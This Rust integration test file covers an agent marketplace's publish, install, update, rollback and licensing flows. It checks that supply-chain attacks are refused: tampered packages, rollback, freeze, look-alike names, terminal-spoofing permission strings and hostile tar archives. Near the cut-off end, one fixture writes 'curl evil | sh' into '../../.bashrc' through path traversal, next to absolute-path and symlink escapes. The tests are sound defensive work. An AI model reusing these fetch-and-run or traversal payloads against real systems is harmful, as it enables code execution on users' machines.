//! The agent marketplace end to end: a registry made by `paired market
//! publish`, served by a real HTTP server on loopback, installed through the
//! daemon; then every attack TUF names, each refused with a clear error and
//! nothing installed.

use std::{
    path::{Path, PathBuf},
    time::Duration,
};

use serde_json::Value;
use tests::{Home, static_server::StaticServer};

const LIB_RS: &str = "pub fn load(path: &str) -> String {\n    std::fs::read_to_string(path).unwrap()\n}\n";

/// An agent folder: manifest, a fixture and a test case for the QA pipeline.
pub(crate) fn agent(dir: &Path, id: &str, version: &str, permissions: &str) -> PathBuf {
    let folder = dir.join(format!("src-{id}-{version}"));
    std::fs::create_dir_all(folder.join("tests")).expect("mkdir");
    std::fs::create_dir_all(folder.join("fixtures")).expect("mkdir");
    std::fs::write(
        folder.join("agent.toml"),
        format!(
            "id = \"{id}\"\ncapabilities = [\"code_review\"]\n[metadata]\nname = \"Rust Auditor\"\nversion = \"{version}\"\nrole = \"qa\"\ndescription = \"Audits Rust code for panics\"\ndomain = \"backend\"\n[permissions]\n{permissions}\n"
        ),
    )
    .expect("manifest");
    std::fs::write(folder.join("fixtures/sample.rs"), "pub fn f(x: Option<u8>) -> u8 { x.unwrap() }\n")
        .expect("fixture");
    std::fs::write(
        folder.join("tests/unwrap.toml"),
        "skill = \"review\"\nfile = \"fixtures/sample.rs\"\nexpect = [\"rust-unwrap\"]\n",
    )
    .expect("case");
    folder
}

struct Run {
    ok: bool,
    stdout: String,
    stderr: String,
}

fn run(home: &Home, args: &[&str]) -> Run {
    let out = home.paired(args).output().expect("run paired");
    Run {
        ok: out.status.success(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn ok(home: &Home, args: &[&str]) -> String {
    let r = run(home, args);
    assert!(r.ok, "paired {args:?} failed:\n{}\n{}", r.stdout, r.stderr);
    r.stdout
}

fn json(home: &Home, args: &[&str]) -> Value {
    serde_json::from_str(&ok(home, args)).expect("json")
}

struct Market {
    home: Home,
    registry: PathBuf,
    server: StaticServer,
}

impl Market {
    /// A registry with rust-auditor 1.0.0, served on loopback, configured.
    fn new() -> Market {
        let home = Home::new();
        let registry = home.path().join("registry");
        ok(&home, &["market", "init", registry.to_str().expect("utf-8")]);
        let market = Market { server: StaticServer::start(registry.join("repository")), home, registry };
        market.publish("rust-auditor", "1.0.0", "fs_read = [\"**\"]");
        market.configure(&market.registry.join("root.json"), "");
        market
    }

    fn configure(&self, root: &Path, extra: &str) {
        self.home.write_config(&format!(
            "[market]\nrefresh_secs = 0\n{extra}\n[[market.registries]]\nname = \"acme\"\nurl = \"{}\"\nroot = \"{}\"\n",
            self.server.url(),
            root.display()
        ));
    }

    fn publish(&self, id: &str, version: &str, permissions: &str) -> Run {
        let folder = agent(self.home.path(), id, version, permissions);
        let r = run(
            &self.home,
            &["market", "publish", folder.to_str().expect("utf-8"), "--registry", self.reg(), "--publisher", "acme"],
        );
        assert!(r.ok, "publish {id}@{version}: {}", r.stderr);
        r
    }

    fn reg(&self) -> &str {
        self.registry.to_str().expect("utf-8")
    }

    fn installed(&self) -> Value {
        json(&self.home, &["market", "installed", "--json"])
    }

    /// An install that must fail: its message, and nothing installed.
    fn refused(&self, package: &str) -> String {
        let before = self.installed();
        let r = run(&self.home, &["market", "install", package, "--yes"]);
        assert!(!r.ok, "installing {package} should fail:\n{}", r.stdout);
        assert_eq!(self.installed(), before, "nothing changed after: {}", r.stderr);
        r.stderr
    }

    /// A copy of the repository as it is now (for replaying it later).
    fn snapshot(&self, name: &str) -> PathBuf {
        let copy = self.home.path().join(name);
        copy_dir(&self.registry.join("repository"), &copy);
        copy
    }
}

impl Drop for Market {
    fn drop(&mut self) {
        let _ = self.home.paired(&["stop"]).output();
    }
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for entry in std::fs::read_dir(from).expect("read dir").flatten() {
        let target = to.join(entry.file_name());
        if entry.file_type().expect("type").is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), target).expect("copy");
        }
    }
}

fn target_file(market: &Market, name: &str) -> (String, PathBuf) {
    let dir = market.registry.join("repository/targets");
    let entry = std::fs::read_dir(&dir)
        .expect("targets")
        .flatten()
        .find(|e| e.file_name().to_string_lossy().ends_with(name))
        .unwrap_or_else(|| panic!("no target {name}"));
    (format!("/targets/{}", entry.file_name().to_string_lossy()), entry.path())
}

#[test]
fn publish_search_install_run_update_and_roll_back() {
    let market = Market::new();
    let home = &market.home;
    let found = json(home, &["market", "search", "panics", "--json"]);
    let first = &found["packages"][0];
    assert_eq!(first["name"], "rust-auditor", "{found}");
    assert_eq!((first["certified"].as_bool(), first["compatible"].as_bool()), (Some(true), Some(true)));
    assert_eq!(first["permissions"], serde_json::json!(["read files: **"]));
    assert!(json(home, &["market", "search", "kubernetes", "--json"])["packages"].as_array().expect("list").is_empty());
    // Issue #15: words match by their stems: "audit" finds "Audits Rust code".
    let found = json(home, &["market", "search", "audit", "--json"]);
    assert_eq!(found["packages"][0]["name"], "rust-auditor", "{found}");
    ok(
        home,
        &[
            "market",
            "stats",
            "rust-auditor@1.0.0",
            "--registry",
            market.reg(),
            "--downloads",
            "1200",
            "--stars",
            "45",
            "--ratings",
            "10",
        ],
    );
    let found = json(home, &["market", "search", "panics", "--json"]);
    assert_eq!(found["packages"][0]["downloads"], 1200);
    assert_eq!(found["packages"][0]["rating"], serde_json::json!({"average": 4.5, "count": 10}));

    // No terminal and no --yes: the permissions are not granted behind the user's back.
    let r = run(home, &["market", "install", "rust-auditor"]);
    assert!(!r.ok);
    assert!(r.stderr.contains("will be allowed to:") && r.stderr.contains("read files: **"), "{}", r.stderr);
    assert!(r.stderr.contains("pass --yes"), "{}", r.stderr);
    assert_eq!(market.installed(), serde_json::json!([]));

    // Recommended for a Rust project, with why.
    let project = home.path().join("proj");
    std::fs::create_dir_all(project.join("src")).expect("mkdir");
    std::fs::write(project.join("Cargo.toml"), "[package]\nname = \"p\"\n").expect("write");
    std::fs::write(project.join("src/lib.rs"), LIB_RS).expect("write");
    let recommended = json(home, &["market", "recommend", "--workspace", project.to_str().expect("utf-8"), "--json"]);
    assert_eq!(recommended["packages"][0]["package"]["name"], "rust-auditor", "{recommended}");
    let reasons = recommended["packages"][0]["reasons"].to_string();
    assert!(reasons.contains("matches your workspace: rust"), "{reasons}");
    assert!(recommended["context"][0].as_str().is_some_and(|c| c.contains("rust")), "{recommended}");

    let installed = json(home, &["market", "install", "rust-auditor", "--yes", "--json"]);
    assert_eq!((installed["version"].as_str(), installed["registry"].as_str()), (Some("1.0.0"), Some("acme")));

    // The installed agent runs like any other, and is no longer recommended.
    let again = json(home, &["market", "recommend", "--workspace", project.to_str().expect("utf-8"), "--json"]);
    assert!(again["packages"].as_array().is_some_and(|p| p.is_empty()), "{again}");
    let report =
        ok(home, &["agents", "run", "rust-auditor", "--file", project.join("src/lib.rs").to_str().expect("utf-8")]);
    assert!(report.contains("rust-unwrap"), "{report}");

    market.publish("rust-auditor", "1.1.0", "fs_read = [\"**\"]");
    let updated = json(home, &["market", "update", "rust-auditor", "--json"]);
    assert_eq!(updated["version"], "1.1.0");
    assert_eq!(updated["kept"], serde_json::json!(["1.0.0"]));
    let back = json(home, &["market", "rollback", "rust-auditor", "--json"]);
    assert_eq!((back["version"].as_str(), back["kept"].clone()), (Some("1.0.0"), serde_json::json!(["1.1.0"])));
    assert_eq!(market.installed()[0]["version"], "1.0.0");
    // Issue #15: a second rollback went forward again, to 1.1.0.
    let r = run(home, &["market", "rollback", "rust-auditor"]);
    assert!(!r.ok && r.stderr.contains("already at the oldest kept version (1.0.0)"), "{}", r.stderr);
    assert_eq!(market.installed()[0]["version"], "1.0.0");
    let listed = ok(home, &["agents", "show", "rust-auditor"]);
    assert!(listed.contains("1.0.0"), "{listed}");

    // A yanked version is no longer offered; naming it is refused.
    let yanked = json(home, &["market", "yank", "rust-auditor@1.1.0", "--registry", market.reg(), "--json"]);
    assert_eq!(yanked, serde_json::json!({"name": "rust-auditor", "version": "1.1.0", "yanked": true}));
    let info = json(home, &["market", "info", "rust-auditor", "--json"]);
    assert_eq!(info["latest"]["version"], "1.0.0");
    assert!(market.refused("rust-auditor@1.1.0").contains("was yanked"));

    let removed = json(home, &["market", "remove", "rust-auditor", "--json"]);
    assert_eq!((removed["name"].as_str(), removed["version"].as_str()), (Some("rust-auditor"), Some("")));
    assert_eq!(market.installed(), serde_json::json!([]));
    let r = run(home, &["agents", "show", "rust-auditor"]);
    assert!(!r.ok, "a removed agent is gone from the roster");

    // Each change is in this machine's audit log (the console's Audit page); the refused rollback is not.
    let db = rusqlite::Connection::open(home.database()).expect("database");
    let changes = tests::poll_for("the audit log", std::time::Duration::from_secs(10), || {
        let rows: Vec<(String, String)> = db
            .prepare("SELECT action, target FROM audit_events WHERE target LIKE 'rust-auditor%' ORDER BY id")
            .and_then(|mut s| s.query_map([], |r| Ok((r.get(0)?, r.get(1)?)))?.collect())
            .expect("audit");
        (rows.len() == 4).then_some(rows)
    });
    let expected = [
        ("market.install", "rust-auditor@1.0.0"),
        ("market.update", "rust-auditor@1.1.0"),
        ("market.rollback", "rust-auditor@1.0.0"),
        ("market.remove", "rust-auditor"),
    ];
    assert_eq!(changes, expected.map(|(a, t)| (a.to_owned(), t.to_owned())));
}

#[test]
fn tampered_substituted_endless_and_oversized_packages_are_refused() {
    let market = Market::new();
    market.publish("other-agent", "1.0.0", "fs_read = [\"src/**\"]");
    let (url, file) = target_file(&market, "rust-auditor-1.0.0.tgz");
    let genuine = std::fs::read(&file).expect("read");

    // One byte changed, same length.
    let mut tampered = genuine.clone();
    let middle = tampered.len() / 2;
    tampered[middle] ^= 0xff;
    market.server.set(|b| {
        b.replace.insert(url.clone(), tampered);
    });
    let err = market.refused("rust-auditor");
    assert!(err.contains("does not match the hash its signed metadata gives"), "{err}");

    // Another package's genuine, signed archive served in its place.
    let (_, other) = target_file(&market, "other-agent-1.0.0.tgz");
    market.server.set(|b| {
        b.replace.insert(url.clone(), std::fs::read(&other).expect("read"));
    });
    let err = market.refused("rust-auditor");
    let caught = err.contains("does not match the hash its signed metadata gives")
        || err.contains("larger than its signed length");
    assert!(caught, "{err}");

    // Endless data: the download stops at the signed length.
    market.server.set(|b| {
        b.replace.clear();
        b.endless.push(url.clone());
    });
    let err = market.refused("rust-auditor");
    assert!(err.contains("larger than its signed length") || err.contains("Maximum size"), "{err}");

    // Bigger than the user's cap: refused before any download.
    market.server.set(|b| b.endless.clear());
    let folder = agent(market.home.path(), "big-agent", "1.0.0", "");
    let noise: String = (0..20_000).map(|i| format!("// {:x}\n", i * 2_654_435_761_u64)).collect();
    std::fs::write(folder.join("fixtures/noise.rs"), noise).expect("write");
    ok(
        &market.home,
        &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg(), "--publisher", "acme"],
    );
    let _ = market.home.paired(&["stop"]).output();

    // A slow drip: the fetch is abandoned at its deadline.
    market.configure(&market.registry.join("root.json"), "fetch_timeout_secs = 2");
    market.server.set(|b| b.slow = Some(("/targets/".into(), Duration::from_millis(50))));
    let started = std::time::Instant::now();
    let err = market.refused("big-agent");
    assert!(err.contains("sent too slowly"), "{err}");
    assert!(started.elapsed() < Duration::from_secs(20), "the deadline holds");
    market.server.set(|b| {
        b.slow = None;
        b.requests.clear();
    });
    let _ = market.home.paired(&["stop"]).output();
    market.configure(&market.registry.join("root.json"), "max_package_kb = 64");
    let err = market.refused("big-agent");
    assert!(err.contains("over market.max_package_kb"), "{err}");
    assert!(!market.server.requests().iter().any(|p| p.contains("big-agent")), "nothing was downloaded");

    // The genuine package, served again, installs.
    ok(&market.home, &["market", "install", "rust-auditor", "--yes"]);
}

#[test]
fn wrong_keys_rollback_mix_and_match_and_freeze_are_refused() {
    let market = Market::new();
    let home = &market.home;

    // A root from another registry: nothing it serves verifies.
    let other = home.path().join("impostor");
    ok(home, &["market", "init", other.to_str().expect("utf-8")]);
    market.configure(&other.join("root.json"), "");
    let err = market.refused("rust-auditor");
    assert!(err.contains("not signed by the keys in the pinned root"), "{err}");
    let _ = home.paired(&["stop"]).output();
    market.configure(&market.registry.join("root.json"), "");

    // Rollback: the client has seen the newer metadata; an older copy is replayed.
    let old = market.snapshot("old-repository");
    market.publish("rust-auditor", "1.1.0", "fs_read = [\"**\"]");
    let found = json(home, &["market", "search", "--json"]);
    assert_eq!(found["packages"][0]["version"], "1.1.0");
    market.server.set(|b| b.root = old.clone());
    let err = market.refused("rust-auditor");
    assert!(err.contains("older than what this machine already trusts"), "{err}");
    let found = json(home, &["market", "search", "--json"]);
    assert!(found["warnings"][0].as_str().is_some_and(|w| w.contains("older than")), "search says so too: {found}");

    // Mix and match: the current timestamp with a snapshot from an older version.
    market.server.set(|b| b.root = market.registry.join("repository"));
    let metadata = market.registry.join("repository/metadata");
    let timestamp: Value =
        serde_json::from_slice(&std::fs::read(metadata.join("timestamp.json")).expect("ts")).expect("json");
    let version = timestamp["signed"]["meta"]["snapshot.json"]["version"].as_u64().expect("snapshot version");
    let older = std::fs::read(metadata.join(format!("{}.snapshot.json", version - 1))).expect("older snapshot");
    market.server.set(|b| {
        b.replace.insert(format!("/metadata/{version}.snapshot.json"), older);
    });
    let err = market.refused("rust-auditor");
    assert!(err.contains("does not match the hash") || err.contains("do not belong together"), "{err}");
    market.server.set(|b| b.replace.clear());

    // Freeze, the stale view: the registry's timestamp stops verifying while the
    // copy kept here is still valid. An update must not pass the old view off
    // as "up to date"; a search may show it, and says why.
    ok(home, &["market", "install", "rust-auditor", "--yes"]);
    market.server.set(|b| {
        b.replace.insert("/metadata/timestamp.json".into(), b"{\"signed\": {}}".to_vec());
    });
    let r = run(home, &["market", "update", "rust-auditor", "--yes"]);
    assert!(!r.ok && r.stderr.contains("cannot check the registry"), "{}", r.stderr);
    let found = json(home, &["market", "search", "--json"]);
    assert!(found["warnings"][0].as_str().is_some_and(|w| w.contains("showing the cached index")), "{found}");
    market.server.set(|b| b.replace.clear());

    // Freeze: a timestamp that runs out; the registry is refused once it has.
    ok(home, &["market", "resign", "--registry", market.reg(), "--timestamp-secs", "5"]);
    ok(home, &["market", "install", "rust-auditor", "--yes"]);
    std::thread::sleep(Duration::from_secs(6));
    let r = run(home, &["market", "update", "rust-auditor", "--yes"]);
    assert!(!r.ok && r.stderr.contains("expired"), "{}", r.stderr);
    let found = json(home, &["market", "search", "--json"]);
    assert!(found["packages"].as_array().expect("list").is_empty(), "an expired index is not used: {found}");
    assert!(found["warnings"][0].as_str().is_some_and(|w| w.contains("expired")), "{found}");
    assert_eq!(market.installed()[0]["version"], "1.1.0", "the installed agent keeps working");
    let listed = ok(home, &["agents", "list"]);
    assert!(listed.contains("rust-auditor"), "{listed}");
}

#[test]
fn names_manifests_and_private_registries() {
    let market = Market::new();
    let home = &market.home;
    // A user (or organisation) policy refuses a permission kind, whatever the answer when asked.
    market.configure(&market.registry.join("root.json"), "[market.policy]\ndeny = [\"fs_read\"]");
    let err = market.refused("rust-auditor");
    assert!(err.contains("asks for fs_read, which your policy denies"), "{err}");
    let _ = home.paired(&["stop"]).output();
    market.configure(&market.registry.join("root.json"), "");
    // Look-alikes of the team, and of a package already there.
    let err = market.refused("sherl0ck");
    assert!(err.contains("reserved or looks like \"sherlock\""), "{err}");
    let folder = agent(home.path(), "rust-audit0r", "1.0.0", "");
    let r = run(
        home,
        &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg(), "--publisher", "acme"],
    );
    assert!(!r.ok && r.stderr.contains("looks too much like \"rust-auditor\""), "{}", r.stderr);
    // Versions never change.
    let folder = agent(home.path(), "rust-auditor", "1.0.0", "fs_read = [\"**\"]");
    let r = run(home, &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg()]);
    assert!(!r.ok && r.stderr.contains("already published"), "{}", r.stderr);
    // Unknown permission kinds are refused, not ignored.
    let folder = agent(home.path(), "teleporter", "1.0.0", "teleport = [\"mars\"]");
    let r = run(home, &["market", "check", folder.to_str().expect("utf-8")]);
    assert!(!r.ok && r.stderr.contains("teleport"), "{}{}", r.stdout, r.stderr);
    // A package whose test case fails is not certified, and not published.
    let folder = agent(home.path(), "flaky", "1.0.0", "");
    std::fs::write(folder.join("fixtures/sample.rs"), "pub fn f() {}\n").expect("write");
    let r = run(home, &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg()]);
    assert!(
        !r.ok && r.stderr.contains("does not pass") && r.stderr.contains("missing [\"rust-unwrap\"]"),
        "{}",
        r.stderr
    );

    // A private registry: a wrong or missing token, a clear error; with it, it works.
    market.server.set(|b| b.token = Some("s3cret".into()));
    let err = market.refused("rust-auditor");
    assert!(err.contains("refused access: check the registry's token"), "{err}");
    let _ = home.paired(&["stop"]).output();
    let root = market.registry.join("root.json");
    market.configure(&root, "");
    let config = std::fs::read_to_string(home.path().join(".config/paired/config.toml")).expect("config");
    home.write_config(&format!("{config}token_env = \"ACME_TOKEN\"\n"));
    let err = market.refused("rust-auditor");
    assert!(err.contains("$ACME_TOKEN, which is not set"), "{err}");
    let _ = home.paired(&["stop"]).output();
    let out =
        home.paired(&["market", "install", "rust-auditor", "--yes"]).env("ACME_TOKEN", "s3cret").output().expect("run");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(market.server.requests().iter().any(|p| p.starts_with("/targets/")));

    // A new version asking for more is not installed on the old consent.
    market.publish("rust-auditor", "1.1.0", "fs_read = [\"**\"]\nfs_write = [\"**\"]");
    let out = home.paired(&["market", "update", "rust-auditor"]).env("ACME_TOKEN", "s3cret").output().expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success() && stderr.contains("propose edits to files: **"), "{stderr}");
    // Issue #15: the update prompt marks what is new.
    assert!(stderr.contains("  + propose edits to files: ** (new)"), "{stderr}");
    assert!(stderr.contains("  - read files: **\n"), "{stderr}");
    assert_eq!(market.installed()[0]["version"], "1.0.0");

    // A publisher cannot publish under another's name.
    let folder = agent(home.path(), "rust-auditor", "2.0.0", "fs_read = [\"**\"]");
    let r = run(
        home,
        &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg(), "--publisher", "mallory"],
    );
    assert!(!r.ok && r.stderr.contains("belongs to publisher \"acme\""), "{}", r.stderr);
    // Permissions that could disguise themselves on the terminal are refused.
    let folder = agent(home.path(), "sneaky", "1.0.0", "commands = [\"\\r\\u001b[2K  - read files: src/**\"]");
    let r = run(home, &["market", "check", folder.to_str().expect("utf-8")]);
    assert!(!r.ok && r.stdout.contains("control or direction characters"), "{}{}", r.stdout, r.stderr);
}

#[test]
fn kill_9_during_an_install_leaves_the_previous_version_active() {
    let market = Market::new();
    let home = &market.home;
    ok(home, &["market", "install", "rust-auditor", "--yes"]);
    // A big 1.1.0 (a 600 KiB fixture) sent slowly, so the install is mid-download.
    let folder = agent(home.path(), "rust-auditor", "1.1.0", "fs_read = [\"**\"]");
    let noise: String = (0..60_000).map(|i| format!("// {:x}\n", i * 2_654_435_761_u64)).collect();
    std::fs::write(folder.join("fixtures/noise.rs"), noise).expect("write");
    ok(
        home,
        &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg(), "--publisher", "acme"],
    );
    market.server.set(|b| b.slow = Some(("/targets/".into(), Duration::from_millis(20))));
    let mut update = home.paired(&["market", "update", "rust-auditor", "--yes"]).spawn().expect("spawn");
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while !market.server.requests().iter().any(|p| p.contains("rust-auditor-1.1.0")) {
        assert!(std::time::Instant::now() < deadline, "the download never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(200));
    let status = json(home, &["status", "--json"]);
    tests::kill9(status["pid"].as_u64().expect("pid") as u32);
    let _ = update.wait();
    market.server.set(|b| b.slow = None);
    let installed = market.installed();
    assert_eq!(installed[0]["version"], "1.0.0", "{installed}");
    let listed = ok(home, &["agents", "list"]);
    assert!(listed.contains("rust-auditor"), "{listed}");
    // And the store takes the next install cleanly.
    let updated = json(home, &["market", "update", "rust-auditor", "--yes", "--json"]);
    assert_eq!(updated["version"], "1.1.0");
    let dir = home.path().join(".local/share/paired/market/agents/rust-auditor");
    let leftovers: Vec<String> = std::fs::read_dir(dir)
        .expect("dir")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".staging"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn a_generated_agent_is_certified_runs_installed_and_publishes() {
    let market = Market::new();
    let home = &market.home;
    let out = home.path().join("generated");
    let generated = json(
        home,
        &[
            "agents",
            "generate",
            "--domain",
            "backend",
            "--specialization",
            "Rust safety review",
            "--capability",
            "code review",
            "--capability",
            "security",
            "--integration",
            "github",
            "--install",
            "--out",
            out.to_str().expect("utf-8"),
            "--json",
        ],
    );
    assert_eq!(generated["id"], "rust-safety-review-backend");
    assert_eq!(generated["permissions"]["fs_write"], serde_json::json!([]), "a reviewer proposes no edits");
    assert_eq!(generated["permissions"]["net"], serde_json::json!(["api.github.com"]));
    assert_eq!(generated["certification"]["level"], "tested", "{generated}");
    assert!(generated["installed"].as_str().is_some_and(|f| f.ends_with("agents/rust-safety-review-backend.toml")));
    // Installed: in the roster, and it reviews.
    let project = home.path().join("proj");
    std::fs::create_dir_all(project.join("src")).expect("mkdir");
    std::fs::write(project.join("Cargo.toml"), "[package]\nname = \"p\"\n").expect("write");
    std::fs::write(project.join("src/lib.rs"), LIB_RS).expect("write");
    let report = ok(
        home,
        &["agents", "run", "rust-safety-review-backend", "--file", project.join("src/lib.rs").to_str().expect("utf-8")],
    );
    assert!(report.contains("rust-unwrap"), "{report}");
    // Its folder publishes as is, and the registry offers it.
    ok(home, &["market", "publish", out.to_str().expect("utf-8"), "--registry", market.reg(), "--publisher", "me"]);
    let found = json(home, &["market", "search", "safety", "--json"]);
    assert_eq!(found["packages"][0]["name"], "rust-safety-review-backend", "{found}");
    assert_eq!(found["packages"][0]["certified"], true);
}

#[test]
fn a_paid_agent_needs_a_licence_at_install_and_before_every_run() {
    let market = Market::new();
    let home = &market.home;
    let folder = agent(home.path(), "pro-auditor", "1.0.0", "fs_read = [\"**\"]");
    let manifest = std::fs::read_to_string(folder.join("agent.toml")).expect("read");
    std::fs::write(
        folder.join("agent.toml"),
        format!(
            "{manifest}[pricing]\nkind = \"paid\"\nmodel = \"subscription\"\nprice_cents = 900\ncurrency = \"EUR\"\n"
        ),
    )
    .expect("write");
    ok(
        home,
        &["market", "publish", folder.to_str().expect("utf-8"), "--registry", market.reg(), "--publisher", "acme"],
    );
    let found = json(home, &["market", "search", "pro-auditor", "--json"]);
    assert_eq!(found["packages"][0]["pricing"], "paid", "{found}");

    // Who this user is, for licences.
    let root = market.registry.join("root.json");
    market.configure(&root, "licensee = \"alice@acme.example\"");
    let _ = home.paired(&["stop"]).output();
    let err = market.refused("pro-auditor");
    assert!(err.contains("pro-auditor is a paid agent") && err.contains("paired market license add"), "{err}");

    // A licence for someone else, then a forged one, are refused.
    let issue = |who: &str, secs: &str| {
        ok(
            home,
            &[
                "market",
                "license",
                "issue",
                "--registry",
                market.reg(),
                "--agent",
                "pro-auditor",
                "--licensee",
                who,
                "--seconds",
                secs,
            ],
        )
        .trim()
        .to_owned()
    };
    let bobs = issue("bob@other.example", "3600");
    ok(home, &["market", "license", "add", "pro-auditor", &bobs]);
    let err = market.refused("pro-auditor");
    assert!(err.contains("the licence is for bob@other.example"), "{err}");
    let forged = format!("{}x", &bobs[..bobs.len() - 1]);
    ok(home, &["market", "license", "add", "pro-auditor", &forged]);
    let err = market.refused("pro-auditor");
    assert!(err.contains("altered or forged") || err.contains("damaged"), "{err}");

    // An organisation licence for the user's domain, valid for an hour.
    let org = issue("org:acme.example", "3600");
    ok(home, &["market", "license", "add", "pro-auditor", &org]);
    ok(home, &["market", "install", "pro-auditor", "--yes"]);
    let project = home.path().join("proj");
    std::fs::create_dir_all(project.join("src")).expect("mkdir");
    std::fs::write(project.join("Cargo.toml"), "[package]\nname = \"p\"\n").expect("write");
    std::fs::write(project.join("src/lib.rs"), LIB_RS).expect("write");
    let file = project.join("src/lib.rs");
    let report = ok(home, &["agents", "run", "pro-auditor", "--file", file.to_str().expect("utf-8")]);
    assert!(report.contains("rust-unwrap"), "{report}");

    // Usage, for revenue sharing: runs per agent.
    let usage = json(home, &["market", "usage", "--json"]);
    let row =
        usage.as_array().and_then(|rows| rows.iter().find(|r| r["name"] == "pro-auditor")).cloned().expect("a row");
    assert_eq!((row["runs"].as_u64(), row["succeeded"].as_u64()), (Some(1), Some(1)), "{usage}");
    assert_eq!(row["publisher"], "acme");
    assert_eq!(row["pricing"], "paid");

    // `market.licensee` applies to runs as soon as config.toml is saved, as
    // `[market]` does to installs: the same daemon, another user, refused.
    let pid = json(home, &["status", "--json"])["pid"].clone();
    let run_it = || {
        let r = run(home, &["agents", "run", "pro-auditor", "--file", file.to_str().expect("utf-8")]);
        (r.ok, format!("{}{}", r.stdout, r.stderr))
    };
    market.configure(&root, "licensee = \"carol@elsewhere.example\"");
    let said = eventually(|| Some(run_it()).filter(|(ok, said)| !ok && said.contains("carol@elsewhere.example")));
    assert!(said.1.contains("the licence is for org:acme.example"), "{}", said.1);
    assert_eq!(json(home, &["status", "--json"])["pid"], pid, "no restart");
    market.configure(&root, "licensee = \"alice@acme.example\"");

    // Expired: the agent stays installed but no longer runs (once alice is back
    // in force). The daemon's expiry clock moves two hours on, not the test's.
    let moved = home.post(r#"{"jsonrpc":"2.0","id":1,"method":"debug/advance_clock","params":[7200]}"#);
    assert!(moved.body.contains("\"result\":7200"), "{}", moved.body);
    let (ok, said) = eventually(|| Some(run_it()).filter(|(_, said)| !said.contains("carol@elsewhere.example")));
    assert!(!ok, "an expired licence stops the agent");
    assert!(said.contains("licence expired"), "{said}");
}

/// A raw tar entry, with whatever path and type an attacker likes.
fn raw_entry(out: &mut Vec<u8>, name: &str, kind: tar::EntryType, data: &[u8], link: &str) {
    let mut header = tar::Header::new_gnu();
    let old = header.as_old_mut();
    old.name[..name.len()].copy_from_slice(name.as_bytes());
    old.linkname[..link.len()].copy_from_slice(link.as_bytes());
    header.set_entry_type(kind);
    header.set_size(data.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    out.extend_from_slice(header.as_bytes());
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
}

pub(crate) fn hostile_tgz(entries: &[(&str, tar::EntryType, &[u8], &str)]) -> Vec<u8> {
    let mut tar = Vec::new();
    raw_entry(&mut tar, "agent.toml", tar::EntryType::Regular, b"id = \"trojan\"\n", "");
    for (name, kind, data, link) in entries {
        raw_entry(&mut tar, name, *kind, data, link);
    }
    tar.resize(tar.len() + 1024, 0);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, &tar).expect("gzip");
    gz.finish().expect("gzip")
}

/// Adds a package version to the registry with its own keys, bypassing
/// `paired market publish` (which would never pack such an archive): what a
/// compromised registry or publisher could serve, correctly signed.
fn sign_as_compromised_registry(registry: &Path, name: &str, version: &str, bytes: &[u8]) {
    use tough::{
        ExpirationEnforcement, RepositoryLoader, TargetName,
        editor::{RepositoryEditor, signed::PathExists},
        key_source::{KeySource, LocalKeySource},
        schema::Target,
    };
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime");
    runtime.block_on(async {
        let root = registry.join("root.json");
        let metadata = registry.join("repository/metadata");
        let targets = registry.join("repository/targets");
        let url = |dir: &Path| url::Url::from_directory_path(dir).expect("url");
        let repo = RepositoryLoader::new(&std::fs::read(&root).expect("root"), url(&metadata), url(&targets))
            .expiration_enforcement(ExpirationEnforcement::Unsafe)
            .load()
            .await
            .expect("load");
        let next = |v: std::num::NonZeroU64| v.checked_add(1).expect("version");
        let (tv, sv, tsv) = (
            next(repo.targets().signed.version),
            next(repo.snapshot().signed.version),
            next(repo.timestamp().signed.version),
        );
        let mut editor = RepositoryEditor::from_repo(&root, repo).await.expect("editor");
        let file_name = format!("{name}-{version}.tgz");
        let file = registry.join(&file_name);
        std::fs::write(&file, bytes).expect("write");
        let mut target = Target::from_path(&file).await.expect("target");
        target.custom.insert("paired".into(), serde_json::json!({"name": name, "version": version, "daemon": "*"}));
        let later = jiff::Timestamp::now() + jiff::SignedDuration::from_hours(24 * 30);
        let target_name = TargetName::new(&file_name).expect("name");
        editor
            .add_target(target_name.clone(), target)
            .expect("add")
            .targets_version(tv)
            .expect("tv")
            .targets_expires(later)
            .expect("te")
            .snapshot_version(sv)
            .snapshot_expires(later)
            .timestamp_version(tsv)
            .timestamp_expires(later);
        let keys: Vec<Box<dyn KeySource>> = ["targets", "snapshot", "timestamp"]
            .iter()
            .map(|role| {
                Box::new(LocalKeySource { path: registry.join(format!("keys/{role}.pk8")) }) as Box<dyn KeySource>
            })
            .collect();
        let signed = editor.sign(&keys).await.expect("sign");
        signed.write(&metadata).await.expect("write metadata");
        signed.copy_target(&file, &targets, PathExists::Skip, Some(&target_name)).await.expect("copy");
    });
}

#[test]
fn hostile_archives_signed_by_a_compromised_registry_are_refused() {
    use tar::EntryType::{Block, Link, Regular, Symlink};
    let market = Market::new();
    let cases: [(&str, Vec<u8>, &str); 5] = [
        ("1.0.1", hostile_tgz(&[("../../.bashrc", Regular, b"curl evil | sh", "")]), "must stay inside"),
        ("1.0.2", hostile_tgz(&[("/tmp/owned", Regular, b"x", "")]), "must stay inside"),
        ("1.0.3", hostile_tgz(&[("link", Symlink, b"", "/home")]), "symbolic links"),
